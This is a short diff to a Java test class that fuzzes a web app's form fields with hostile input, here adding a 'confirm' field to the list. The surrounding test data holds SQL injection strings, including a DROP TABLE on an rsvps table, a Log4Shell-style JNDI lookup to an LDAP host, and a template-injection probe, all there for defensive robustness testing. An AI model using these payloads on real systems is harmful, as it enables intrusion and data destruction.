@@ -50,7 +50,8 @@ class HostileInputTest {
             "contactEmail", "pitchId", "pitchMinutes", "qaMinutes", "kind", "minutes", "username", "name", "role", "link",
             "email", "lookingFor", "lookingFor[]", "comment", "text", "anonymous", "opensAt", "closesAt", "brief", "slotsWanted", "blind",
             "weights", "scores", "q", "rsvpId", "code", "noShows", "enabled", "share", "note", "csrf-token",
-            "audience", "subject", "body", "newNights", "reminders", "organizerMessages");
+            "audience", "subject", "body", "newNights", "reminders", "organizerMessages",
+            "confirm");
 
     private static final List<String> TROUBLE_STRINGS = List.of("", " ", "\u0000", "null", "NaN", "-1", "0", "1e309",
             "99999999999999999999999", "' OR '1'='1' -- ", "\"; DROP TABLE rsvps; --", "${jndi:ldap://x/a}", "{{7*7}}",
